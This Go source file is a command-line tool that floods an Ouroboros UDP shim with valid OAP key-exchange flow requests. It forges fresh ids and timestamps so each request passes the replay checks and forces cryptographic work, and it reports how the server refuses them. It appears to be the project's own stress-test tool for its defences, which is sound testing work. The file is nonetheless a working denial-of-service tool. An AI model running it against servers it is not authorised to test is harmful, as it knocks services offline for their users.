// Command oapflood floods a host's UDP shim with flow requests for a name
// that carry well-formed OAP key exchanges: one ephemeral key, reused (a
// fixed key costs the attacker nothing per request), with a fresh id and
// the current time in each, so that every request passes the timestamp
// and replay checks and asks the server for an X25519 exchange and a place
// in its replay cache. With -dealloc it ends each flow it is granted at
// once, so that the server's flows do not pile up and only the exchanges
// and the replay cache are attacked.
//
// It sends raw shim FLOW_REQs from one UDP socket (one source), reads the
// FLOW_REPLYs, and prints what it sent and how it was answered: the count
// of accepted requests and of refusals by reason.
//
//	oapflood -to 10.1.0.2:3435 -name pinger -for 8s -dealloc
package main

import (
	"crypto/rand"
	"encoding/binary"
	"flag"
	"fmt"
	"net"
	"os"
	"regexp"
	"sort"
	"strings"
	"sync"
	"time"

	"o7s.dev/ouroboros/stack/crypt/oap"
	"o7s.dev/ouroboros/stack/ipcp"
	"o7s.dev/ouroboros/stack/qos"
)

// The shim's management messages (stack/ipcp/shim/wire.go,
// docs/protocol.md), written here from the spec.
const (
	shimVersion   = 1
	codeFlowReq   = 1
	codeFlowReply = 2
	codeDealloc   = 3
	qosLen        = 30
)

// The OAP request's header: version, type, kex, flags, id (16), timestamp.
const (
	oapIDAt = 4
	oapTSAt = 20
)

func main() {
	to := flag.String("to", "", "the target's UDP shim, IP:port")
	name := flag.String("name", "", "the name to request flows for")
	dur := flag.Duration("for", 5*time.Second, "how long to flood")
	rate := flag.Int("rate", 0, "requests a second; 0: as fast as one core sends")
	dealloc := flag.Bool("dealloc", false, "end each granted flow at once")
	flag.Parse()
	if *to == "" || *name == "" {
		fmt.Fprintln(os.Stderr, "usage: oapflood -to IP:PORT -name NAME [-for D] [-rate N] [-dealloc]")
		os.Exit(2)
	}
	if err := flood(*to, *name, *dur, *rate, *dealloc); err != nil {
		fmt.Fprintln(os.Stderr, "oapflood:", err)
		os.Exit(1)
	}
}

func flood(to, name string, dur time.Duration, rate int, dealloc bool) error {
	c, err := net.Dial("udp4", to)
	if err != nil {
		return err
	}
	defer c.Close()
	kex, _, err := oap.NewRequest(oap.Config{}, name)
	if err != nil {
		return err
	}
	r := &replies{reasons: map[string]int{}}
	go r.read(c, dealloc)

	start := time.Now()
	var sent int
	pkt := make([]byte, 0, 256)
	for time.Since(start) < dur {
		if rate > 0 && float64(sent) > time.Since(start).Seconds()*float64(rate) {
			time.Sleep(time.Millisecond)
			continue
		}
		rand.Read(kex[oapIDAt : oapIDAt+16])
		binary.BigEndian.PutUint64(kex[oapTSAt:], uint64(time.Now().UnixNano()))
		pkt = flowReq(pkt[:0], uint32(sent+1), ipcp.DefaultHash.Sum(name), kex)
		if _, err := c.Write(pkt); err != nil {
			r.countSendError(err)
		}
		sent++
	}
	elapsed := time.Since(start)
	time.Sleep(time.Second) // the last replies
	fmt.Printf("sent %d requests in %v (%.0f/s)\n", sent, elapsed.Round(time.Millisecond), float64(sent)/elapsed.Seconds())
	r.print()
	return nil
}

// flowReq appends a FLOW_REQ from eid src for hash carrying data.
func flowReq(b []byte, src uint32, hash, data []byte) []byte {
	b = append(b, 0, 0, 0, 0, shimVersion, codeFlowReq)
	b = binary.BigEndian.AppendUint32(b, src)
	b = appendQoS(b, qos.Raw)
	b = append(b, byte(len(hash)))
	b = append(b, hash...)
	b = binary.BigEndian.AppendUint16(b, uint16(len(data)))
	return append(b, data...)
}

func appendQoS(b []byte, q qos.Spec) []byte {
	var w [qosLen]byte
	binary.BigEndian.PutUint32(w[0:], q.Delay)
	binary.BigEndian.PutUint64(w[4:], q.Bandwidth)
	w[12] = q.Availability
	binary.BigEndian.PutUint32(w[13:], q.Loss)
	binary.BigEndian.PutUint32(w[17:], q.BER)
	if q.InOrder {
		w[21] = 1
	}
	binary.BigEndian.PutUint32(w[22:], q.MaxGap)
	binary.BigEndian.PutUint32(w[26:], q.Timeout)
	return append(b, w[:]...)
}

// replies counts the target's answers.
type replies struct {
	mu         sync.Mutex
	ok         int
	refused    int
	other      int
	sendErrors int
	reasons    map[string]int
}

func (r *replies) read(c net.Conn, dealloc bool) {
	buf := make([]byte, 65536)
	for {
		n, err := c.Read(buf)
		if err != nil {
			if strings.Contains(err.Error(), "closed") {
				return
			}
			r.countSendError(err) // ICMP unreachable and the like
			continue
		}
		r.reply(c, buf[:n], dealloc)
	}
}

// reply counts one datagram; a granted flow is ended at once with dealloc.
func (r *replies) reply(c net.Conn, p []byte, dealloc bool) {
	r.mu.Lock()
	defer r.mu.Unlock()
	if len(p) < 16 || binary.BigEndian.Uint32(p) != 0 || p[5] != codeFlowReply {
		r.other++
		return
	}
	serverEID := binary.BigEndian.Uint32(p[6:])
	result, reasonLen := p[14], int(p[15])
	if result == 0 {
		r.ok++
		if dealloc {
			m := []byte{0, 0, 0, 0, shimVersion, codeDealloc}
			c.Write(binary.BigEndian.AppendUint32(m, serverEID))
		}
		return
	}
	r.refused++
	reason := ""
	if len(p) >= 16+reasonLen {
		reason = string(p[16 : 16+reasonLen])
	}
	reason = shorten(reason)
	if _, ok := r.reasons[reason]; !ok && len(r.reasons) >= maxReasons {
		reason = "(other reasons)"
	}
	r.reasons[reason]++
}

// maxReasons bounds the distinct reasons kept.
const maxReasons = 20

func (r *replies) countSendError(error) {
	r.mu.Lock()
	r.sendErrors++
	r.mu.Unlock()
}

// shorten keeps the part of a refusal's reason that names its cause, with
// its numbers (counts, times; not addresses) written N so that reasons that differ only
// in them are counted together.
func shorten(s string) string {
	s = numbers.ReplaceAllStringFunc(s, func(n string) string {
		if strings.Count(n, ".") == 3 {
			return n // an IPv4 address: the source, kept
		}
		return "N"
	})
	if len(s) > 160 {
		s = s[:160]
	}
	return s
}

var numbers = regexp.MustCompile(`[0-9]+(\.[0-9]+){3}|[0-9]+(\.[0-9]+)?`)

func (r *replies) print() {
	r.mu.Lock()
	defer r.mu.Unlock()
	fmt.Printf("replies: %d accepted, %d refused, %d other; %d send errors\n", r.ok, r.refused, r.other, r.sendErrors)
	keys := make([]string, 0, len(r.reasons))
	for k := range r.reasons {
		keys = append(keys, k)
	}
	sort.Slice(keys, func(i, j int) bool { return r.reasons[keys[i]] > r.reasons[keys[j]] })
	for _, k := range keys {
		fmt.Printf("refused %d: %s\n", r.reasons[k], k)
	}
}
